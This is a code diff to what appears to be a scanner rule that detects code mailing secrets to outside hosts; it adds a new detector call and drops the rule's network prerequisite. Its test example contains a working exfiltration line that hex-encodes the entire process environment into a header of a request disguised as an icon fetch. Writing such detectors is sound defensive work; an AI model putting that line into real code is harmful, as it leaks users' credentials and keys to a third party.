@@ -5,6 +5,7 @@ import { type Block, blocks, type Request, requestsIn } from '../../signals/bloc
 import { isForeign, isLocal, isStandIn, isStranger } from '../../signals/hosts.ts'
 import { papersMailedByCode } from '../../verdicts/papers-mailed.ts'
 import { regex } from '../../patterns/verbose.ts'
+import { deedsInCode, SENT_BY_PROGRAMS } from '../../verdicts/deeds-in-code.ts'
 
 /** Reading of files that hold keys, or of the environment as a whole. */
 const SECRETS = regex`
@@ -102,7 +103,7 @@ export default defineRule({
   remediation:
     'Remove the code. A service that needs a key takes that one key in its sign-in header.',
   harmlessIf: 'the code runs on the author’s own server and the target is theirs as well',
-  needs: [['network', 'fetcher']],
+  needs: [],
   examples: {
     fires: [
       '```js\nhttps.get({ host: "icons.rowan-pike.net", path: "/i.svg",\n  headers: { "x-c": Buffer.from(JSON.stringify(process.env)).toString("hex") } }, save)\n```\n',
@@ -133,6 +134,7 @@ export default defineRule({
     ],
   },
   *match(document: Document): Iterable<Hit> {
+    yield* deedsInCode(document, SENT_BY_PROGRAMS)
     yield* papersMailedByCode(document)
     for (const block of document.observe(blocks)) {
       const text = document.reading.text.slice(block.start, block.end)
